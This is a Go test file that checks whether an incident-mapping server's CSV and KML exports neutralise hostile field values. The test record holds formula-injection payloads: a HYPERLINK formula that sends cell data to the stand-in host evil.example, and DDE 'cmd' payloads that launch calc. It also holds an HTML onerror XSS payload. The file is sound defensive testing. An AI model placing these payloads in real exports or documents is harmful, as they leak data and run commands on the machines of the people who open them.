package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"testing"

	"incidentmap/incident"
	"incidentmap/internal/testsrv"
)

// hostile is an incident whose text was written to attack whoever opens an
// export: spreadsheet formulas (issue 15 §5) and markup (§9, KML balloons).
var hostile = incident.Incident{
	EventID: "HOSTILE-1", EventDate: "2021-05-08", EventType: "Riots <b>bold</b>",
	Notes:    `=HYPERLINK("http://evil.example/?x="&A1,"click") <img src=x onerror=alert(1)>`,
	Actor1:   `+cmd|' /C calc'!A0`,
	Actor2:   `@SUM(1+1)*cmd|' /C calc'!A0`,
	Location: `-2+3+cmd|' /C calc'!A0`,
	Lon:      44.4, Lat: 33.3, TimePrecision: 1, GeoPrecision: 1,
}

func startHostile(t *testing.T) *testsrv.Server {
	t.Helper()
	st := testsrv.OpenSeeded(t)
	if _, err := st.Upsert(context.Background(), []incident.Incident{hostile}); err != nil {
		t.Fatal(err)
	}
	return testsrv.Start(t, st, nil)
}

// TestCSVDownloadNeutralisesFormulas: ?f=csv wrote the payloads verbatim.
func TestCSVDownloadNeutralisesFormulas(t *testing.T) {
	s := startHostile(t)
	recs, err := csv.NewReader(bytes.NewReader(download(t, s, "f=csv&event_id=HOSTILE-1", "text/csv", ".csv"))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %d records, %v", len(recs), err)
	}
	cell := map[string]string{}
	for i, name := range recs[0] {
		cell[name] = recs[1][i]
	}
	for col, want := range map[string]string{
		"notes":    "'" + hostile.Notes,
		"actor1":   "'" + hostile.Actor1,
		"actor2":   "'" + hostile.Actor2,
		"location": "'" + hostile.Location,
		"latitude": "33.3",
	} {
		if cell[col] != want {
			t.Errorf("%s = %q, want %q", col, cell[col], want)
		}
	}
}

// TestKMLBalloonsCarryNoMarkup: a KML viewer renders a placemark's name and
// description as HTML, so they hold the text escaped for HTML; the exact
// values are in ExtendedData.
func TestKMLBalloonsCarryNoMarkup(t *testing.T) {
	s := startHostile(t)
	kml := download(t, s, "f=kml&event_id=HOSTILE-1", "application/vnd.google-earth.kml+xml", ".kml")
	var doc struct {
		Document struct {
			Style struct {
				Balloon string `xml:"BalloonStyle>text"`
			}
			Placemarks []struct {
				Name        string `xml:"name"`
				Description string `xml:"description"`
				StyleURL    string `xml:"styleUrl"`
				Data        []struct {
					Name  string `xml:"name,attr"`
					Value string `xml:",chardata"`
				} `xml:"ExtendedData>SchemaData>SimpleData"`
			} `xml:"Folder>Placemark"`
		}
	}
	if err := xml.Unmarshal(kml, &doc); err != nil {
		t.Fatalf("KML: %v", err)
	}
	if len(doc.Document.Placemarks) != 1 {
		t.Fatalf("%d placemarks", len(doc.Document.Placemarks))
	}
	p := doc.Document.Placemarks[0]
	// What the viewer gets after XML decoding is HTML that shows the text.
	wantDesc := `=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;click&#34;) &lt;img src=x onerror=alert(1)&gt;`
	if p.Description != wantDesc {
		t.Errorf("description (as the viewer's HTML) %q, want %q", p.Description, wantDesc)
	}
	if want := `Riots &lt;b&gt;bold&lt;/b&gt; — -2+3+cmd|&#39; /C calc&#39;!A0`; p.Name != want {
		t.Errorf("name (as the viewer's HTML) %q, want %q", p.Name, want)
	}
	if p.StyleURL != "#incident" || doc.Document.Style.Balloon != "<b>$[name]</b><br/>$[description]" {
		t.Errorf("balloon style %q / %q", p.StyleURL, doc.Document.Style.Balloon)
	}
	values := map[string]string{}
	for _, d := range p.Data {
		values[d.Name] = d.Value
	}
	if values["notes"] != hostile.Notes || values["event_type"] != hostile.EventType || values["location"] != hostile.Location {
		t.Errorf("ExtendedData does not hold the exact values: %v", values)
	}
}
